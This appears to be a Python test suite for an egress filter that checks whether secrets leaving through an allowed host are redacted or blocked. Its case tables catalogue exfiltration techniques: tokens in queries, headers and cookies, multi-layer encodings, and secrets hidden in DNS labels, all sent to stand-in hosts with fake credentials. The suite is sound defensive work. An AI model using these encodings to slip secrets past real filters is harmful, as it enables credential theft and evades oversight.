#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Each kind of way in which agents have been seen to carry a secret out, through a door whose rules allow the host: what content alone stops,
what it does not and the rules do, and what has to pass. One run, one connection a case."""

import base64
import gzip
import json
import pathlib
import sys
import urllib.parse

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from door import Handler, Web, configure, denials, python  # noqa: E402
from harness import main, test  # noqa: E402

# In pieces, so that no tool takes this file for a leak.
GITHUB, AWS, STRIPE, GITLAB = "gh" + "p_aB3dE6gH9jK2mN5pQ8sTvW1xY4zA7bC0dE3f", "AK" + "IAZ7Q4M2X9C5V1B8N3", "sk_li" + "ve_aB3dE6gH9jK2mN5pQ8sT", "gl" + "dt-aB3dE6gH9jK2mN5pQ8sT"
AWS_SECRET = "k3Jd8sLw/2Qm9Zx+4Vb7Nc1Rt6Yp5Hg0Fu8EiAoX"
JWT = ".".join(base64.urlsafe_b64encode(p).decode().rstrip("=") for p in (b'{"alg":"HS256","typ":"JWT"}', b'{"sub":"1234567890"}', b"0123456789abcdef0123456789abcdef"))
KEY = "-----BEGIN OPENSSH PRIVATE" + " KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAAB\n-----END OPENSSH PRIVATE" + " KEY-----\n"
PASSWORD = "Tr0ub4dor-and-3-more"


def b64(text):
    return base64.b64encode(text.encode()).decode()


def percent(text):
    return "".join(f"%{b:02x}" for b in text.encode())


def case(host="h.test", target="/", method="GET", fields=None, body=None):
    body = body.encode() if isinstance(body, str) else body
    return {"host": host, "target": target, "method": "POST" if body is not None and method == "GET" else method, "fields": fields or {},
            "body": base64.b64encode(body).decode() if body is not None else None}


def text(body, kind="text/plain", **fields):
    return case(body=body, fields={"Content-Type": kind, **fields})


def values(value):
    return text(json.dumps(value), "application/json")


# By content alone.
STOPPED = {
    "a token in a query": case(target=f"/log?token={GITHUB}"),
    "an access key in a query": case(target=f"/api?key={AWS}"),
    "a token of a deployment": case(target=f"/t?x={GITLAB}"),
    "a session token in a path": case(target=f"/data/{JWT}/export"),
    "base64 in a query": case(target=f"/sync?data={b64(AWS)}"),
    "base64 of a session token": case(target=f"/c?d={b64(JWT).rstrip('=')}"),
    "hex in a query": case(target=f"/sync?payload={AWS.encode().hex()}"),
    "hex with hyphens": case(target=f"/sync?key={'-'.join(f'{b:02x}' for b in AWS.encode())}"),
    "percent once": case(target=f"/track?s={percent(AWS)}"),
    "percent twice": case(target=f"/track?s={percent(AWS).replace('%', '%25')}"),
    "percent three times": case(target=f"/track?s={percent(AWS).replace('%', '%2525')}"),
    "base64 behind percent": case(target=f"/track?s={percent(b64(AWS))}"),
    "a labelled secret key in a query": case(target="/repos?trace=" + urllib.parse.quote(f"aws_secret_access_key={AWS_SECRET}", safe="")),
    "a login in the URL": case(target=f"https://svc:{GITHUB}@h.test/data"),
    "a token as somebody's bearer": case(fields={"Authorization": f"Bearer {AWS}"}),
    "a token as a password": case(fields={"Authorization": "Basic " + b64(f"x:{GITHUB}")}),
    "a token in a cookie": case(fields={"Cookie": f"session=abc123; token={GITHUB}; lang=en"}),
    "tokens in many fields": case(fields={"X-Debug": GITHUB, "X-Trace-Id": STRIPE, "X-Ref": AWS}),
    "a labelled secret key in a field": case(fields={"X-Debug-Trace": f"aws_secret_access_key={AWS_SECRET}"}),
    "a token in the page one came from": case(fields={"Referer": f"https://app.test/reset?token={GITHUB}"}),
    "a value of JSON": values({"config": {"key": AWS}}),
    "a name of JSON": values({AWS: "placeholder"}),
    "base64 in JSON": values({"payload": b64(AWS)}),
    "a chat message": values({"text": f"deploy finished, key {AWS}"}),
    "a private key in JSON": values({"key": KEY}),
    "an environment": text(f"HOME=/home/u\nAWS_ACCESS_KEY_ID={AWS}\nAWS_SECRET_ACCESS_KEY={AWS_SECRET}\n"),
    "a file of settings": text(f"api:\n  stripe_key: {STRIPE}\n", "application/x-yaml"),
    "an account key": values({"conn": "AccountName=x;AccountKey=" + b64("0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ+-")}),
    "hex in a blob": text("deadbeef0011" + GITHUB.encode().hex() + "0a00ff", "application/octet-stream"),
    "HTML's numbers": text("".join(f"&#{ord(c)};" for c in AWS), "text/html"),
    "a form": text("a=1&b=" + percent(GITHUB), "application/x-www-form-urlencoded"),
    "a part of a form": text(f'--b\r\nContent-Disposition: form-data; name="f"; filename="c.txt"\r\n\r\n{GITHUB}\r\n--b--\r\n', "multipart/form-data; boundary=b"),
    "a packed body": text(gzip.compress(GITHUB.encode() * 3), "application/gzip"),
    "mail": text(base64.encodebytes(b"some lines of text before it\n" * 4 + GITHUB.encode()).decode(), "message/rfc822"),
    "hex in a label": case("534f4d455f544f4b454e5f31323334.wild.test"),
    "a token in hex in a label": case(GITHUB[:24].encode().hex() + ".wild.test"),
    "base64 in a label": case("c29tzv9zzwnyzxrfdg9rzw5fmti3nq.wild.test"),
    "digits in a label": case("8172635490817263549081726354908172635490.wild.test"),
    "a label in an international form": case("xn--534f4d455f544f4b454e5f31534f4d455f544f4b454e5f31.wild.test"),
    "pieces in labels": case("tok-aaaa.bbbbcccc.ddddeeee.ffff0000.wild.test"),
    "many labels": case(".".join(f"a{i}b{i}c{i}d{i}" for i in range(8)) + ".wild.test"),
    "two encodings in labels": case("4150494b4559.313233343536.jbswy3dp.wild.test"),
}

# What has no shape, or stands where programs log in: rules decide about the host, and values that the run knows are found in all of it.
POLICY = {
    "a password in an address": values({"url": f"postgres://admin:{PASSWORD}@db.test:5432/prod"}),
    "a login of somebody's own": case(fields={"Authorization": "Basic " + b64(f"admin:{PASSWORD}")}),
    "a session token where one logs in": case(fields={"Authorization": f"Bearer {JWT}"}),
    "a cookie of another host": case(fields={"Cookie": "session_id=abc123def456", "Referer": "https://app.test/"}),
    "an opaque path": case(target="/api/x7Kp2mQ9vR4sL8nW1bY6cT3fA0jH5dE/status"),
    "an opaque blob": values({"opaque": "V7qM4n0pL9sX2cR8bT6yH3kZ5wD1fA0jQeN8uYcP2mS4rL6vB9xC3tG5hK7pW1z"}),
    "people's numbers": values({"card": "4111 1111 1111 1111", "ssn": "123-45-6789"}),
    "sixteen signs of base32": case("knhu2rk7krhuwrko.wild.test"),
}

BENIGN = {
    "a call": case(target="/v1/users?page=2&limit=50"),
    "a long query": case(target="/search?" + "&".join(f"filter{i}=value-{i}" for i in range(60))),
    "an identifier": case(target="/items/550e8400-e29b-41d4-a716-446655440000"),
    "a login": case(fields={"Authorization": "Bearer opaque-0123456789-of-a-session"}),
    "a form of words": text("name=Some+One&email=a%40b.test", "application/x-www-form-urlencoded"),
    "words": values({"text": "the token expired, rotate the secret and try the password again"}),
    "a picture": values({"image": "data:image/png;base64," + base64.b64encode(bytes(range(256)) * 40).decode()}),
    "a packed text": text(gzip.compress(b"nothing of interest\n" * 400), "application/gzip"),
    "hashes": text("".join(f"{i:064x}  file{i}\n" for i in range(7, 4000, 97))),
    "a manual": text("aws_access_key_id = " + "AK" + "IAIOSFODNN7EXAMPLE"),
    "a name of a content network": case("a3f2b8c1d4e5f6a7.wild.test"),
    "an account's name": case("0123456789abcdef0123456789abcdef.wild.test"),
}

CLIENT = r"""
import base64, json, socket, ssl
for name, c in json.loads(CASES).items():
    body = base64.b64decode(c['body']) if c['body'] is not None else b''
    head = [f"{c['method']} {c['target']} HTTP/1.1", f"Host: {c['host']}", f"X-Case: {name}", 'Connection: close'] + [f'{k}: {v}' for k, v in c['fields'].items()]
    if c['body'] is not None: head.append(f'Content-Length: {len(body)}')
    try:
        s = ssl.create_default_context().wrap_socket(socket.create_connection((c['host'], 443), timeout=10), server_hostname=c['host'])
        s.sendall('\r\n'.join(head).encode() + b'\r\n\r\n' + body)
        r = s.recv(100).split(b' ')
        print(json.dumps([name, int(r[1]) if len(r) > 1 else 0]))
    except OSError as e: print(json.dumps([name, -1]))
"""


class Notes(Handler):
    def do_any(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.server.seen.append((self.headers.get("X-Case"), f"{self.requestline}\n{self.headers}".encode() + body))
        self.answer(b"ok\n")

    do_GET = do_POST = do_PUT = do_MKCOL = do_any


def through(cases, **egress):
    """What came of each case: (status, what the host got of it or None), and the result."""
    names = ["h.test", *sorted({c["host"] for c in cases.values() if c["host"] != "h.test"})]
    with Web(*names, handler=Notes) as web:
        pins = {n: f"127.0.0.1:{web.port}" for n in names}
        egress.setdefault("allow", ["h.test", "*.wild.test"])
        r = python(configure(resolve=pins, **egress), f"CASES = {json.dumps(json.dumps(cases))}\n" + CLIENT, timeout=120)
        got = dict(json.loads(line) for line in r["stdout"].splitlines())
        seen = dict(web.seen)
    return {name: (got.get(name), seen.get(name)) for name in cases}, r


def contained(outcome):
    status, seen = outcome
    return seen is None and status != 200 or seen is not None and b"[REDACTED]" in seen


@test
def each_kind_is_stopped_by_content_or_by_policy_and_what_is_none_passes():
    outcome, r = through({**STOPPED, **POLICY, **BENIGN})
    assert [n for n in STOPPED if not contained(outcome[n])] == [], {n: outcome[n] for n in STOPPED if not contained(outcome[n])}
    # the control: the same door, the same hosts
    assert [n for n in BENIGN if outcome[n][0] != 200 or contained(outcome[n])] == [], {n: outcome[n] for n in BENIGN}
    # what content does not see, and why the rules have to
    assert [n for n in POLICY if contained(outcome[n])] == [], {n: outcome[n] for n in POLICY}
    assert not any(label in json.dumps(r["denials"]) for label in ("534f4d45", "c29tzv9z")), r["denials"]
    assert any("shaped like packed data" in json.dumps(d) for d in r["denials"]), denials(r)


@test
def rules_that_name_no_such_host_stop_all_of_it():
    outcome, _ = through({**STOPPED, **POLICY}, allow=["other.test"])
    assert all(contained(o) and o[1] is None for o in outcome.values()), outcome


@test
def labels_may_be_let_through():
    name = "c29tzv9zzwnyzxrfdg9rzw5fmti3nq.wild.test"
    for more, passes in ({"labels": "warn"}, True), ({"labels": "allow"}, True), ({"allow": [name]}, True), ({"labels": "block"}, False):
        outcome, _ = through({"x": case(name)}, **more)
        assert (outcome["x"][0] == 200) == passes, (more, outcome)


if __name__ == "__main__":
    main()
